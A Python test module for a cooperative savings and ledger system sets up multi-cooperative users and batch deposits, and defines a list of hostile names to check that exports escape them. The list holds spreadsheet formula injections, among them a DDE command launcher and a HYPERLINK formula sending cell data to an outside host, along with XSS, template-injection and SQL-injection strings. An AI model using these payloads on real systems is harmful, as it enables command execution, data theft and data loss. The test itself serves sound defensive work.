
from ...models.ledger.posting import GlLine, Movement, Posting
from ..common import new_user
from ..savings.common import SavingsCase

# reliability R29: names that a spreadsheet, a page or a printer must take for names
PAYLOADS = (
    '=HYPERLINK("http://x.id/?"&A1,"klik")', "=cmd|' /C calc'!A0", '@SUM(1+1)*cmd|calc', '+1+1', '-2+3', '=1+1', '=SUM(A1:A9)',
    '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', 'http://x.id/masuk', 'mailto:x@x.id', 'internal:Sheet1!A1',
    'external:C:\\x.xlsx', '{=1+1}', '{{7*7}}', '${7*7}', "'; DROP TABLE koperasi_entry; --", '%s %d %(x)s', '00012', '1e9', '\\u202eKolo',
)


class PapersCase(SavingsCase):
    two_cooperatives = True

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.stranger = cls.make_user('uji_stranger', 'koperasi.group_koperasi_manager', cls.other_coop)
        cls.portal_own = cls.portal('uji_portal_own', cls.maria)
        cls.portal_other = cls.portal('uji_portal_other', cls.yosef)

    @classmethod
    def portal(cls, login, member):
        return new_user(cls.env, login=login, groups='base.group_portal', partner_id=member.partner_id.id,
                        company_id=cls.coop.id, company_ids=[(6, 0, cls.coop.ids)])

    def transaction(self, result):
        """ The transaction of what a door gave back """
        return self.env['koperasi.transaction'].browse(result['transaction_id'])

    def many(self, account, amounts):
        """ As many deposits, in one journal entry """
        till = self.journal('till')
        return self.env['koperasi.transaction']._post_batch(
            [Posting(kind='deposit', movements=(Movement(account.account_id.id, amount),), partner_id=account.partner_id.id) for amount in amounts],
            till, self.key(), {}, extra_lines=[GlLine(till.default_account_id.id, sum(amounts))])
